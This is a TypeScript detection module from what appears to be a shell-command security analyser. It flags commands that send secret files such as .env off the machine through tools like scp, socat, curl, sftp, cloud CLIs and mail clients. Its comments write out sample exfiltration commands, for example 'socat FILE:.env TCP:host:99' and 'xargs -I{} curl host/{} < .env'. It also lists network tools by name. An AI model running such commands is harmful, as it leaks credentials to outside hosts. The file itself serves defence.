import { argumentsOf } from '../arguments.ts';
import { secretInput, sends } from '../carried.ts';
import type { Effect, Invocation, Program } from '../effect.ts';
import { inputOf } from '../output.ts';
import { secretIn, secretOfLine, secretPrintedIn } from '../secret-files.ts';
import { hostOf, isDiverted, isThisMachine } from './hosts.ts';

/** Secrets that leave this machine: what is read and what is sent stand in one line. What curl and wget send by option is told in web-apis.ts. */
export const sending: Program = {
  names: (
    'nc ncat netcat socat telnet openssl curl wget http https xh xhs websocat scp rsync sftp ftp lftp ncftpput smbclient tftp ' +
    'ssh mail mailx s-nail sendmail msmtp mutt dig drill kdig nslookup host ping getent resolvectl ' +
    'aws gsutil gcloud az rclone mc s3cmd gh glab croc wormhole magic-wormhole ffsend transfer kubectl'
  ).split(' '),
  effects: (invocation) => {
    const way = WAYS.find(({ programs }) => programs.test(invocation.program));
    return way === undefined || staysHere(invocation) ? [] : way.does(invocation).slice(0, 1);
  },
};

type Way = { readonly programs: RegExp; readonly does: (invocation: Invocation) => readonly Effect[] };

const WAYS: readonly Way[] = [
  // `scp .env host:`
  {
    programs: /^(scp|rsync)$/,
    does: ({ args, command }) => {
      const { plain } = argumentsOf(args, COPY_VALUED);
      const to = plain.at(-1) ?? '';
      const away = /^[\w.@-]{2,}:|^rsync:\/\//.test(to) && !isThisMachine(hostOf(to));
      const listed = args.some((arg) => arg.startsWith('--files-from'))
        ? secretOfLine(command.source.replace(/[()]/g, ' '), command)
        : undefined;
      return away
        ? [...named(plain.slice(0, -1), command, 'medium'), ...(listed === undefined ? [] : [sends(listed, undefined, 'medium')])]
        : [];
    },
  },
  // `put .env` as an option or as the input.
  {
    programs: /^(sftp|ftp|lftp|ncftpput|smbclient|tftp)$/,
    does: ({ args, command }) => {
      const told = `${args.join(' ')}\n${inputOf(command) ?? ''}`;
      return [...told.matchAll(/\bm?put\s+([^\n;]+)/g)].flatMap(([, files = '']) => named(files.split(/\s+/), command, 'high'));
    },
  },
  // Names that are looked up, and what a packet is filled with.
  { programs: /^(dig|drill|kdig|nslookup|host|ping|getent|resolvectl)$/, does: printed },
  // Storage, code hosts, and what hands a file to whoever has a word.
  {
    programs: /^(aws|gsutil|gcloud|az|rclone|mc|s3cmd|gh|glab|croc|wormhole|magic-wormhole|ffsend|transfer|kubectl)$/,
    does: (invocation) => {
      const { program, args, command } = invocation;
      const line = args.join(' ');
      if (!(UPLOADS[program] ?? /./).test(line)) return [];
      const plain = args.filter((arg) => !arg.startsWith('-'));
      const comes = /^(aws|gsutil|gcloud|rclone|mc|s3cmd)$/.test(program) && !/^(?:[a-z\d]+:\/\/|[\w-]+[:/])/i.test(plain.at(-1) ?? '');
      if (comes && !args.includes('--body')) return [];
      const words = args.map((arg) => arg.replace(/^-[a-zA-Z](?=[./~])|^(?:--?[\w-]+|[\w[\].]+)=@?|^@/, ''));
      const input = words.includes('-') || /^gist create\b/.test(line) ? secretInput(command) : undefined;
      return [...named(words, command, 'high'), ...(input === undefined ? [] : [sends(input, undefined)]), ...printed(invocation)];
    },
  },
  { programs: /^(mutt|mail|mailx|s-nail|sendmail|msmtp|ssh)$/, does: (invocation) => [...attached(invocation), ...streamed(invocation)] },
  { programs: /^openssl$/, does: (invocation) => (invocation.args[0] === 's_client' ? streamed(invocation) : []) },
  { programs: /^socat$/, does: (invocation) => [...addresses(invocation), ...streamed(invocation)] },
  // Of these, only what they are told to read.
  {
    programs: /^(curl|wget)$/,
    does: (invocation) =>
      invocation.args.some((arg) => /^@?-$|=@?-$|@-$|\/dev\/stdin|^telnet:/.test(arg)) || isRepeated(invocation)
        ? streamed(invocation)
        : printed(invocation),
  },
  { programs: /./, does: streamed },
];

const COPY_VALUED = new Set(
  '-i -P -o -F -J -l -S -c -e -f -B -T -M --exclude --include --filter --exclude-from --include-from --files-from --rsh --password-file --log-file --port --chmod'.split(
    ' ',
  ),
);

/** What sends something, of all that these programs do. */
const UPLOADS: Readonly<Record<string, RegExp>> = {
  aws: /^(s3 (cp|mv|sync)|s3api put-object|lambda invoke|sns publish|sqs send-message)\b/,
  gsutil: /\b(cp|mv|rsync)\b/,
  gcloud: /\b(storage (cp|mv|rsync)|compute scp)\b/,
  az: /\b(upload(-batch)?)\b/,
  rclone: /^(copy|copyto|sync|move|moveto|rcat)\b/,
  mc: /^(cp|mv|mirror|pipe|put)\b/,
  s3cmd: /^(put|sync)\b/,
  gh: /^(gist|issue|pr|release|api|discussion|repo)\b/,
  glab: /^(snippet|issue|mr|release|api)\b/,
  kubectl: /^cp\b|\bcreate (configmap|cm)\b/,
};

/** Is this machine the only one that is named? What stands behind an option is no host, unless it is written as one. */
function staysHere(invocation: Invocation): boolean {
  const { args } = invocation;
  const hosts = args.filter(
    (arg, i) => !/^(-|\d+$)/.test(arg) && (isThisMachine(hostOf(arg)) || HOST.test(arg) || args[i - 1]?.startsWith('-') !== true),
  );
  return hosts.length > 0 && hosts.every((arg) => isThisMachine(hostOf(arg))) && !isDiverted(invocation);
}

const HOST = /^[a-z][a-z+.-]*:\/\/|^(?:[\w.-]+@)?[\w-]+(?:\.[\w-]+)+(?:[:/?#]|$)/i;

function named(words: readonly string[], command: Invocation['command'], severity: 'high' | 'medium'): readonly Effect[] {
  return words.flatMap((word) => {
    const found = secretIn(word, command);
    return found === undefined ? [] : [sends(found, undefined, severity)];
  });
}

function streamed(invocation: Invocation): readonly Effect[] {
  const found = secretInput(invocation.command);
  return found === undefined ? printed(invocation) : [sends(found, undefined)];
}

/** `$(cat .env)` in a word, or a variable filled so. */
function printed({ command }: Invocation): readonly Effect[] {
  const found = secretPrintedIn(command.source, command);
  return found === undefined ? [] : [sends(found, undefined)];
}

function attached({ args, command }: Invocation): readonly Effect[] {
  return named(argumentsOf(args, new Set(['-a', '-A', '--attach'])).values('-a', '-A', '--attach'), command, 'high');
}

/** `socat FILE:.env TCP:host:99` */
function addresses({ args, command }: Invocation): readonly Effect[] {
  const found = args.flatMap((arg) => /^(?:open|file|gopen):([^,]+)/i.exec(arg)?.[1] ?? []);
  return args.some((arg) => /^(?:tcp|udp|openssl|sctp|ssl)[\w-]*:/i.test(arg)) ? named(found, command, 'high') : [];
}

/** `xargs -I{} curl host/{} < .env`: what comes in becomes its words. */
function isRepeated({ command }: Invocation): boolean {
  return /^(?:\S*\/)?(xargs|parallel)$/.test(command.words[0]?.text ?? '') && secretOfLine(command.source, command) === undefined;
}
